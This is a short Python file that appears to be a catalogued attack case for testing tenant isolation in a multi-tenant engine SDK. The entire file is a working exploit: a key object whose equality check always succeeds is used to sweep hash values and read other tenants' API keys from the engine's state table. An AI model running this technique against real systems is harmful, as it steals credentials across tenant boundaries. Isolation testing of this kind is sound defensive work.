#: channel = attributes
#: reaches = tenant
#: layer = both
#: note = an object that equals every context is looked up in the engine's table of states

from engine.sdk import OrganizationContext


class Key:
    def __init__(self, number):
        self.number = number

    def __hash__(self):
        return self.number

    def __eq__(self, other):
        return True


async def run(context):
    for step in range(-50_000, 50_000):
        key = Key(hash(context) + step)
        try:
            found = OrganizationContext.get_config(key, "api_key")
        except KeyError:
            continue
        if found != context.get_config("api_key"):
            return found
